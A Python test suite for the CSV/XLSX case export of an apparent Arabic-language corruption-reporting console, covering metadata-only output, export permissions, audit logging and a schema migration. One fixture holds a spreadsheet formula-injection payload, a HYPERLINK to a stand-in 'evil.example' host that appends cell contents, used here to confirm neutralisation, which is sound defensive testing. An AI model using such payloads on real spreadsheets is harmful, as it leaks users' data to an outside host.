"""Export of the filtered inbox (CSV and XLSX) over HTTP: triage metadata only (a canary in
everything the reporter wrote never comes out), a byte-order mark and Arabic words, formulas
neutralised, the filter applied to every page, audit entries; the export right (admins; a
caseworker only once given it, and then only their visible cases; volunteers never); the
``can_export`` column added to a store made before it existed."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from xml.etree import ElementTree

from sqlalchemy import inspect, select, text

from nazaha.services.case_export import COLUMNS, neutralise
from nazaha.storage.console_db import prepare_console_store
from nazaha.storage.console_models import AuditEntry, CaseLabel
from tests.casework_support import console_store, evidence, make_case, sessionmaker_of
from tests.console_support import csrf_of
from tests.test_console_cases import invite, world  # noqa: F401 - the fixture

CANARY = "CANARY-q7zX"
# No comma: real labels cannot hold one (nazaha.services.workflow.normalise_label), and the
# inbox's SQL joins a case's labels with commas.
EVIL = '=HYPERLINK("http://evil.example/?x="&A1)'
_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def export(browser, fmt: str, filter_query: str = ""):
    page = browser.get("/cases")
    return browser.post(f"/cases/export.{fmt}", data={"csrf": csrf_of(page.text), "filter": filter_query})


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
    return list(csv.reader(io.StringIO(content[3:].decode("utf-8"))))


def xlsx_rows(content: bytes) -> tuple[list[list[str]], str]:
    """The first sheet's cells as text (inline or shared strings; numbers as written), and
    every XML part of the file joined (to look for what must not be there)."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        parts = {name: z.read(name).decode("utf-8") for name in z.namelist()}
    shared = []
    if "xl/sharedStrings.xml" in parts:
        root = ElementTree.fromstring(parts["xl/sharedStrings.xml"])
        shared = ["".join(t.text or "" for t in si.iter(f"{{{_NS['m']}}}t")) for si in root.findall("m:si", _NS)]
    sheet = ElementTree.fromstring(parts["xl/worksheets/sheet1.xml"])
    rows = []
    for row in sheet.iter(f"{{{_NS['m']}}}row"):
        values = [""] * len(COLUMNS)
        for cell in row.findall("m:c", _NS):
            column = ord(re.match(r"[A-Z]+", cell.get("r")).group()) - ord("A")
            kind = cell.get("t")
            if kind == "inlineStr":
                values[column] = "".join(t.text or "" for t in cell.iter(f"{{{_NS['m']}}}t"))
            elif kind == "s":
                values[column] = shared[int(cell.find("m:v", _NS).text)]
            else:
                values[column] = cell.find("m:v", _NS).text
        rows.append(values)
    return rows, "\n".join(parts.values())


async def _cases(w):
    sm = w.console.sessionmaker
    secret = {"description": f"the clerk asked for money {CANARY}", "contact_name": f"Samir {CANARY}",
              "when": f"last week {CANARY}"}
    a, _ = await make_case(sm, w.public, designation="R-EXPAAA", fields=secret,
                           messages=[("reporter", f"more {CANARY}", False)], files=[evidence(f"{CANARY}.pdf", CANARY)])
    b, _ = await make_case(sm, w.public, designation="R-EXPBBB", kind="complaint", category=None, service="health",
                           sector=None, governorate="gaza", fields={"description": CANARY})
    c, _ = await make_case(sm, w.public, designation="R-EXPCCC", status="closed", outcome="out_of_scope",
                           fields={"description": CANARY})
    return a, b, c


async def test_admin_export_is_metadata_only_in_arabic_with_formulas_neutralised(world):
    w = world
    a, b, _ = await _cases(w)
    browser = w.admin_browser
    # Through the bulk form: the case page would open the (blob-less) evidence of R-EXPAAA.
    page = browser.get("/cases")
    csrf = csrf_of(page.text)
    me = re.search(r'<option value="([0-9a-f]{32})"[^>]*>admin<', page.text)
    assert me
    for form in ({"action": "label", "label": "عاجل"}, {"action": "assign", "assignee": me.group(1)}):
        done = browser.post("/cases/bulk", data={"csrf": csrf, "case": ["R-EXPAAA"], **form})
        assert done.status_code == 303 and "skipped=0" in done.headers["location"]
    async with w.console.sessionmaker() as session, session.begin():  # no form takes this: written straight in
        session.add(CaseLabel(report_id=b, label=EVIL))
    # A note (staff's own words, sealed) also stays out.
    assert browser.post("/cases/R-EXPAAA/note", data={"csrf": csrf, "body": f"note {CANARY}"}).status_code == 303

    answer = export(browser, "csv")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith('attachment; filename="nazaha-cases-2026-11-30.csv"')
    assert CANARY.encode() not in answer.content
    rows = csv_rows(answer.content)
    header, body = rows[0], rows[1:]
    assert len(header) == len(COLUMNS) and header[0] == "الرقم المرجعي" and "المحافظة" in header
    by_designation = {row[0]: dict(zip(COLUMNS, row)) for row in body}
    assert set(by_designation) == {"R-EXPAAA", "R-EXPBBB", "R-EXPCCC"}
    first = by_designation["R-EXPAAA"]
    assert first["category_code"] == "bribery" and first["category"] == "الرشوة"
    assert first["governorate_code"] == "nablus" and first["governorate"] == "نابلس"
    assert first["labels"] == "عاجل" and first["received_on"] == "2026-11-01"
    assert first["assignee"] == "admin"
    complaint = by_designation["R-EXPBBB"]
    assert complaint["category_code"] == "health" and complaint["category"] == "الصحة" and complaint["sector"] == ""
    assert complaint["labels"] == "'" + EVIL  # read as text, never as a formula
    assert by_designation["R-EXPCCC"]["outcome"] and by_designation["R-EXPCCC"]["outcome"] != "out_of_scope"

    answer = export(browser, "xlsx")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith('attachment; filename="nazaha-cases-2026-11-30.xlsx"')
    assert CANARY.encode() not in answer.content
    sheet, xml = xlsx_rows(answer.content)
    assert CANARY not in xml and "<f>" not in xml and "<f " not in xml  # no formula cell anywhere
    assert sheet[0][0] == "الرقم المرجعي"
    xrows = {row[0]: dict(zip(COLUMNS, row)) for row in sheet[1:]}
    assert set(xrows) == {"R-EXPAAA", "R-EXPBBB", "R-EXPCCC"}
    assert xrows["R-EXPBBB"]["labels"] == EVIL  # a string cell: shown, not evaluated
    assert xrows["R-EXPAAA"]["governorate"] == "نابلس" and xrows["R-EXPAAA"]["labels"] == "عاجل"
    assert 'rightToLeft="1"' in xml
    tmpdir = w.settings.effective_console_dir / "export-tmp"  # XlsxWriter's files: private, and gone
    assert tmpdir.is_dir() and (tmpdir.stat().st_mode & 0o777) == 0o700 and not any(tmpdir.iterdir())

    # The filter applies to every page, not only the one shown.
    only = export(browser, "csv", "kind=complaint&page=7&page_size=1")
    assert [row[0] for row in csv_rows(only.content)[1:]] == ["R-EXPBBB"]

    async with w.console.sessionmaker() as session:
        details = [json.loads(d) for d in (await session.scalars(
            select(AuditEntry.detail).where(AuditEntry.action == "export").order_by(AuditEntry.seq))).all()]
    assert details == [
        {"what": "inbox", "format": "csv", "rows": 3},
        {"what": "inbox", "format": "xlsx", "rows": 3},
        {"what": "inbox", "format": "csv", "rows": 1},
    ]


async def test_export_right_is_given_and_taken_back_and_covers_only_visible_cases(world):
    w = world
    await _cases(w)
    huda = await invite(w, "huda", "caseworker")
    omar = await invite(w, "omar", "caseworker")
    vera = await invite(w, "vera", "volunteer")
    admin = w.admin_browser
    page = admin.get("/cases")
    omar_id = re.search(r'<option value="([0-9a-f]{32})"[^>]*>omar<', page.text).group(1)
    done = admin.post("/cases/bulk", data={"csrf": csrf_of(page.text), "case": ["R-EXPAAA"], "action": "assign", "assignee": omar_id})
    assert done.status_code == 303 and "skipped=0" in done.headers["location"]

    for fmt in ("csv", "xlsx"):
        assert export(huda, fmt).status_code == 403
        assert export(vera, fmt).status_code == 403
    assert 'action="/cases/export.csv"' not in huda.get("/cases").text
    assert 'action="/cases/export.csv"' in admin.get("/cases").text

    users = admin.get("/users")
    huda_id = re.search(r'id="member-huda".*?action="/users/([0-9a-f]{32})/export"', users.text, re.S).group(1)
    vera_id = re.search(r'id="member-vera".*?/users/([0-9a-f]{32})/reset', users.text, re.S).group(1)
    assert 'action="/users/' + vera_id + '/export"' not in users.text  # no toggle for a volunteer
    assert admin.post(f"/users/{huda_id}/export", data={"csrf": csrf_of(users.text), "export": "1"}).status_code == 303
    refused = admin.post(f"/users/{vera_id}/export", data={"csrf": csrf_of(users.text), "export": "1"})
    assert refused.status_code == 303 and refused.headers["location"] == "/users?error=not_caseworker"
    assert 'role="alert"' in admin.get(refused.headers["location"]).text
    assert huda.post(f"/users/{huda_id}/export", data={"csrf": csrf_of(huda.get("/cases").text), "export": "1"}).status_code == 403

    assert 'action="/cases/export.csv"' in huda.get("/cases").text
    answer = export(huda, "csv")
    assert answer.status_code == 200
    assert sorted(row[0] for row in csv_rows(answer.content)[1:]) == ["R-EXPBBB", "R-EXPCCC"]  # not omar's case
    sheet, _ = xlsx_rows(export(huda, "xlsx").content)
    assert sorted(row[0] for row in sheet[1:]) == ["R-EXPBBB", "R-EXPCCC"]

    users = admin.get("/users")
    assert admin.post(f"/users/{huda_id}/export", data={"csrf": csrf_of(users.text), "export": "0"}).status_code == 303
    assert export(huda, "csv").status_code == 403

    async with w.console.sessionmaker() as session:
        roles = [json.loads(d) for d in (await session.scalars(
            select(AuditEntry.detail).where(AuditEntry.action == "user_role").order_by(AuditEntry.seq))).all()]
        exports = (await session.scalars(select(AuditEntry.detail).where(AuditEntry.action == "export"))).all()
    assert roles == [{"user": huda_id, "export": True}, {"user": huda_id, "export": False}]
    assert len(exports) == 2  # the refused ones are not exports


def test_neutralise():
    for dangerous in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(dangerous) == "'" + dangerous
    for harmless in ("R-ABC123", "نابلس", "a=b", ""):
        assert neutralise(harmless) == harmless


async def test_prepare_adds_can_export_to_an_older_store(tmp_path):
    async with console_store("sqlite", tmp_path) as engine:
        async with engine.begin() as conn:
            await conn.execute(text("INSERT INTO console.staff_users (id, username, role, state, locale, totp_last_step,"
                                    " created_at, generation, can_export) VALUES ('a', 'old', 'caseworker', 'active', 'ar',"
                                    " 0, '2026-01-01 00:00:00.000000', 0, 1)"))
            await conn.execute(text("ALTER TABLE console.staff_users DROP COLUMN can_export"))

        async def columns():
            async with engine.connect() as conn:
                return await conn.run_sync(lambda s: {c["name"] for c in inspect(s).get_columns("staff_users", schema="console")})

        assert "can_export" not in await columns()
        await prepare_console_store(engine)
        await prepare_console_store(engine)  # idempotent
        assert "can_export" in await columns()
        async with sessionmaker_of(engine)() as session:
            assert (await session.scalar(text("SELECT can_export FROM console.staff_users WHERE id = 'a'"))) in (0, False)


def _arabic_catalog():
    from pathlib import Path

    from babel.messages.pofile import read_po

    path = Path(__file__).resolve().parent.parent / "nazaha" / "locales" / "ar" / "LC_MESSAGES" / "nazaha.po"
    with path.open("rb") as f:
        return read_po(f, locale="ar")


async def test_arabic_export_headers_are_the_catalogs(world, monkeypatch):
    """Every header of the Arabic CSV and XLSX comes from gettext: with gettext replaced by
    the identity, the headers are msgids of the catalog, and in Arabic each is that msgid's
    Arabic translation (none missing, none written in directly); the labels column is the
    catalog's «الوسوم» (the inbox's column "Labels")."""
    from nazaha.admin.routes import exports

    await _cases(world)
    catalog = _arabic_catalog()
    with monkeypatch.context() as patch:
        patch.setattr(exports, "_", lambda message, **_kw: message)
        msgids = [exports.wording().headers[column] for column in COLUMNS]
    expected = []
    for msgid in msgids:
        message = catalog.get(msgid)
        assert message is not None and message.string and message.string != msgid, msgid
        expected.append(message.string)
    assert expected[COLUMNS.index("labels")] == catalog.get("Labels").string == "الوسوم"
    assert csv_rows(export(world.admin_browser, "csv").content)[0] == expected
    sheet, _ = xlsx_rows(export(world.admin_browser, "xlsx").content)
    assert sheet[0] == expected
